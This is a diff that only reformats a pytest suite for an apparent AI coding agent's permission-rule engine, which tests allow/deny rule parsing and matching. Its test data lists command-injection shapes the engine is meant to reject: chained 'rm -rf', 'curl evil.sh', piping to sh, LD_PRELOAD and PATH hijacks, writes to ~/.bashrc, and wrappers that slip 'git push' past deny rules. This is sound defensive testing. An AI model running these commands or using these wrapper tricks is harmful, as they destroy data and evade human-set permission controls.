@@ -54,36 +54,42 @@ def denied(ruleset: RuleSet, command: str) -> bool:
 # ---------------------------------------------------------------- grammar
 
 
-@pytest.mark.parametrize("text,tool,pattern", [
-    ("Bash", "Bash", None),
-    ("Bash(git status:*)", "Bash", "git status:*"),
-    ("  Bash( npm test )  ", "Bash", "npm test"),
-    ("Edit(src/**)", "Edit", "src/**"),
-    ("Write(docs/*.md)", "Write", "docs/*.md"),
-    ("Edit(/etc/hosts)", "Edit", "/etc/hosts"),
-])
+@pytest.mark.parametrize(
+    "text,tool,pattern",
+    [
+        ("Bash", "Bash", None),
+        ("Bash(git status:*)", "Bash", "git status:*"),
+        ("  Bash( npm test )  ", "Bash", "npm test"),
+        ("Edit(src/**)", "Edit", "src/**"),
+        ("Write(docs/*.md)", "Write", "docs/*.md"),
+        ("Edit(/etc/hosts)", "Edit", "/etc/hosts"),
+    ],
+)
 def test_rules_parse(text, tool, pattern):
     rule = parse_rule(text)
     assert (rule.tool, rule.pattern) == (tool, pattern)
     assert parse_rule(rule.text) == rule  # the canonical text reads back the same
 
 
-@pytest.mark.parametrize("text,fragment", [
-    ("", "empty"),
-    ("bash(ls)", "did you mean Bash"),
-    ("Shell(ls)", "names no known tool"),
-    ("Bash()", "empty pattern"),
-    ("Bash(git status && rm -rf x:*)", "one simple command"),
-    ("Bash(ls | sh)", "one simple command"),
-    ("Bash(ls > out)", "plain words"),
-    ("Bash(rm $TARGET)", "plain words"),
-    ("Bash(X=1 make)", "plain words"),
-    ("Bash(git * push)", "not supported"),
-    ("Edit(../outside/**)", "`..` is not allowed"),
-    ("Edit(src/**x/y)", "stands alone"),
-    ("Bash(git status", "is not a rule"),
-    ("B" * 600, "at most"),
-])
+@pytest.mark.parametrize(
+    "text,fragment",
+    [
+        ("", "empty"),
+        ("bash(ls)", "did you mean Bash"),
+        ("Shell(ls)", "names no known tool"),
+        ("Bash()", "empty pattern"),
+        ("Bash(git status && rm -rf x:*)", "one simple command"),
+        ("Bash(ls | sh)", "one simple command"),
+        ("Bash(ls > out)", "plain words"),
+        ("Bash(rm $TARGET)", "plain words"),
+        ("Bash(X=1 make)", "plain words"),
+        ("Bash(git * push)", "not supported"),
+        ("Edit(../outside/**)", "`..` is not allowed"),
+        ("Edit(src/**x/y)", "stands alone"),
+        ("Bash(git status", "is not a rule"),
+        ("B" * 600, "at most"),
+    ],
+)
 def test_bad_rules_say_what_is_wrong(text, fragment):
     with pytest.raises(RuleError, match=None) as caught:
         parse_rule(text)
@@ -111,44 +117,56 @@ def test_prefix_and_exact_rules():
     assert not allowed(r, "./git status")  # a workspace file named git even less
 
 
-@pytest.mark.parametrize("command", [
-    "git status && rm -rf x",
-    "git status; rm -rf x",
-    "git status || curl evil.sh",
-    "git status | sh",
-    "git status & rm -rf x",
-    "git status\nrm -rf x",
-    "(git status; rm x)",
-    "if git status; then rm x; fi",
-    "git status $(rm -rf x)",
-    "git status `rm -rf x`",
-    "git status \"$(rm -rf x)\"",
-    "git status <(rm -rf x)",
-    "git status ${X:-$(rm x)}",
-    "PATH=/tmp/evil git status",
-    "LD_PRELOAD=/tmp/x.so git status",
-    "PATH=/tmp/evil; git status",
-    "git() { rm -rf x; }; git status",
-    "git status > ~/.bashrc",
-    "git status >> notes.txt",
-    "git status &> out",
-    "git status >& out",
-    "cat <<EOF | git status\n$(rm x)\nEOF",
-    "for f in $(rm x); do git status; done",
-    "$CMD status",
-    "$(echo git) status",
-    "",
-    "   ",
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git status && rm -rf x",
+        "git status; rm -rf x",
+        "git status || curl evil.sh",
+        "git status | sh",
+        "git status & rm -rf x",
+        "git status\nrm -rf x",
+        "(git status; rm x)",
+        "if git status; then rm x; fi",
+        "git status $(rm -rf x)",
+        "git status `rm -rf x`",
+        'git status "$(rm -rf x)"',
+        "git status <(rm -rf x)",
+        "git status ${X:-$(rm x)}",
+        "PATH=/tmp/evil git status",
+        "LD_PRELOAD=/tmp/x.so git status",
+        "PATH=/tmp/evil; git status",
+        "git() { rm -rf x; }; git status",
+        "git status > ~/.bashrc",
+        "git status >> notes.txt",
+        "git status &> out",
+        "git status >& out",
+        "cat <<EOF | git status\n$(rm x)\nEOF",
+        "for f in $(rm x); do git status; done",
+        "$CMD status",
+        "$(echo git) status",
+        "",
+        "   ",
+    ],
+)
 def test_allow_rule_never_covers_a_line_that_does_more(command):
     assert not allowed(rules("Bash(git status:*)"), command)
 
 
-@pytest.mark.parametrize("command", [
-    "git status 2>&1", "git status 2>/dev/null", "git status > /dev/null", "git status < input.txt",
-    "git status | cat", "git status && cat README", "time git status", "git status # ; rm -rf x",
-    "git status <<'EOF'\n$(not run: quoted heredoc)\nEOF",
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git status 2>&1",
+        "git status 2>/dev/null",
+        "git status > /dev/null",
+        "git status < input.txt",
+        "git status | cat",
+        "git status && cat README",
+        "time git status",
+        "git status # ; rm -rf x",
+        "git status <<'EOF'\n$(not run: quoted heredoc)\nEOF",
+    ],
+)
 def test_harmless_shapes_stay_allowed_when_every_part_is_covered(command):
     assert allowed(rules("Bash(git status:*)", "Bash(cat:*)"), command), command
 
@@ -164,12 +182,26 @@ def test_an_allow_rule_for_another_tool_does_not_cover_bash():
 # ---------------------------------------------------------------- bash: deny
 
 
-@pytest.mark.parametrize("command", [
-    "git push", "git push --force origin main", "ls && git push", "echo $(git push)",
-    "sudo git push", "env GIT_TRACE=1 git push", "timeout 30 git push", "nohup git push &",
-    "bash -c 'git push'", "sh -lc \"git push origin\"", "eval git push", "/usr/bin/git push",
-    "xargs -n1 git push < remotes", "bash <<EOF\ngit push\nEOF", "cat <<EOF\n$(git push)\nEOF",
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git push",
+        "git push --force origin main",
+        "ls && git push",
+        "echo $(git push)",
+        "sudo git push",
+        "env GIT_TRACE=1 git push",
+        "timeout 30 git push",
+        "nohup git push &",
+        "bash -c 'git push'",
+        'sh -lc "git push origin"',
+        "eval git push",
+        "/usr/bin/git push",
+        "xargs -n1 git push < remotes",
+        "bash <<EOF\ngit push\nEOF",
+        "cat <<EOF\n$(git push)\nEOF",
+    ],
+)
 def test_deny_rules_see_through_wrappers_shells_and_substitutions(command):
     assert denied(rules(deny=("Bash(git push:*)",)), command), command
 
@@ -218,19 +250,22 @@ def test_absolute_path_rules(tmp_path):
 # ---------------------------------------------------------------- suggestions
 
 
-@pytest.mark.parametrize("command,offered", [
-    ("git status --short", ("Bash(git status:*)",)),
-    ("npm run build -- --watch", ("Bash(npm run build:*)",)),
-    ("pytest -q tests/x.py", ("Bash(pytest:*)",)),
-    ("git status && git diff HEAD", ("Bash(git status:*)", "Bash(git diff:*)")),
-    ("python -c 'import os'", ()),  # a whole interpreter: never offered
-    ("bash -c 'ls'", ()),
-    ("sudo -E make install", ()),
-    ("env X=1 make", ()),
-    ("git status $(id)", ()),  # could not be allowed by a prefix anyway
-    ("X=1 make", ()),
-    ("$EDITOR notes", ()),
-])
+@pytest.mark.parametrize(
+    "command,offered",
+    [
+        ("git status --short", ("Bash(git status:*)",)),
+        ("npm run build -- --watch", ("Bash(npm run build:*)",)),
+        ("pytest -q tests/x.py", ("Bash(pytest:*)",)),
+        ("git status && git diff HEAD", ("Bash(git status:*)", "Bash(git diff:*)")),
+        ("python -c 'import os'", ()),  # a whole interpreter: never offered
+        ("bash -c 'ls'", ()),
+        ("sudo -E make install", ()),
+        ("env X=1 make", ()),
+        ("git status $(id)", ()),  # could not be allowed by a prefix anyway
+        ("X=1 make", ()),
+        ("$EDITOR notes", ()),
+    ],
+)
 def test_always_allow_offers_a_rule_only_when_it_would_cover_this_very_call(command, offered):
     suggestion = suggest_rules(bash(command))
     assert suggestion == offered
@@ -252,19 +287,20 @@ def test_path_suggestions(tmp_path):
 PROGRAMS = ["git", "ls", "cat", "rm", "curl", "make", "sh"]
 ARGS = ["status", "push", "-la", "x", "src", "--force", "README"]
 SEPARATORS = [" && ", " || ", "; ", " | ", "\n", " & "]
-simple = st.tuples(st.sampled_from(PROGRAMS), st.lists(st.sampled_from(ARGS), max_size=3)).map(
-    lambda t: [t[0], *t[1]])
-prefix = st.tuples(st.sampled_from(PROGRAMS), st.lists(st.sampled_from(ARGS), max_size=1)).map(
-    lambda t: [t[0], *t[1]])
+simple = st.tuples(st.sampled_from(PROGRAMS), st.lists(st.sampled_from(ARGS), max_size=3)).map(lambda t: [t[0], *t[1]])
+prefix = st.tuples(st.sampled_from(PROGRAMS), st.lists(st.sampled_from(ARGS), max_size=1)).map(lambda t: [t[0], *t[1]])
 
 
 def covered(argv: list[str], prefixes: list[list[str]]) -> bool:
-    return any(argv[:len(p)] == p for p in prefixes)
+    return any(argv[: len(p)] == p for p in prefixes)
 
 
 @settings(max_examples=300, deadline=None)
-@given(st.lists(simple, min_size=1, max_size=4), st.lists(prefix, min_size=1, max_size=3),
-       st.lists(st.sampled_from(SEPARATORS), min_size=3, max_size=3))
+@given(
+    st.lists(simple, min_size=1, max_size=4),
+    st.lists(prefix, min_size=1, max_size=3),
+    st.lists(st.sampled_from(SEPARATORS), min_size=3, max_size=3),
+)
 def test_a_compound_line_is_allowed_exactly_when_every_part_is(parts, prefixes, separators):
     line = parts[0]
     text = " ".join(line)
@@ -275,9 +311,11 @@ def test_a_compound_line_is_allowed_exactly_when_every_part_is(parts, prefixes, 
 
 
 @settings(max_examples=200, deadline=None)
-@given(st.lists(simple, min_size=1, max_size=3), st.sampled_from(["$(rm -rf x)", "`rm -rf x`", "<(rm x)",
-                                                                  "\"$(rm x)\"", "${Y:-$(rm x)}"]),
-       st.integers(min_value=0, max_value=5))
+@given(
+    st.lists(simple, min_size=1, max_size=3),
+    st.sampled_from(["$(rm -rf x)", "`rm -rf x`", "<(rm x)", '"$(rm x)"', "${Y:-$(rm x)}"]),
+    st.integers(min_value=0, max_value=5),
+)
 def test_a_substitution_anywhere_is_never_covered_by_prefix_rules(parts, substitution, where):
     words = [w for argv in parts for w in [*argv, ";"]][:-1]
     words.insert(min(where, len(words)) or 1, substitution)
@@ -321,8 +359,14 @@ def test_a_broken_store_is_never_overwritten_and_its_rules_are_not_used(tmp_path
 def test_a_bad_rule_in_the_store_is_skipped_and_named(tmp_path):
     user = tmp_path / "config"
     user.mkdir()
-    rules_file(user).write_text(json.dumps({"version": 1, "workspaces": {
-        str(tmp_path.resolve()): {"allow": ["Bash(ls)", "Bsh(x)"], "deny": ["Bash(rm:*)"]}}}))
+    rules_file(user).write_text(
+        json.dumps(
+            {
+                "version": 1,
+                "workspaces": {str(tmp_path.resolve()): {"allow": ["Bash(ls)", "Bsh(x)"], "deny": ["Bash(rm:*)"]}},
+            }
+        )
+    )
     combined = effective_rules(PermissionLists(allow=(RuleEntry("Edit", "config.toml:3"),)), tmp_path, user)
     assert [r.text for r in combined.allow] == ["Edit", "Bash(ls)"]
     assert [r.text for r in combined.deny] == ["Bash(rm:*)"]
@@ -339,9 +383,15 @@ def test_mcp_rules_name_a_server_or_one_tool_and_never_a_lookalike_server():
     from myrm_tui.agent.permission_rules import call_for, parse_rule, rule_set
 
     rules = rule_set(allow=[("mcp__git", "user"), ("mcp__time__now", "user")])
-    allowed = {name: rules.judge(call_for(name, {}, Path("."))).allowed
-               for name in ("mcp__git__log", "mcp__git2__log", "mcp__time__now", "mcp__time__convert")}
-    assert allowed == {"mcp__git__log": True, "mcp__git2__log": False, "mcp__time__now": True,
-                       "mcp__time__convert": False}
+    allowed = {
+        name: rules.judge(call_for(name, {}, Path("."))).allowed
+        for name in ("mcp__git__log", "mcp__git2__log", "mcp__time__now", "mcp__time__convert")
+    }
+    assert allowed == {
+        "mcp__git__log": True,
+        "mcp__git2__log": False,
+        "mcp__time__now": True,
+        "mcp__time__convert": False,
+    }
     with pytest.raises(RuleError):
         parse_rule("mcp__git(log)")
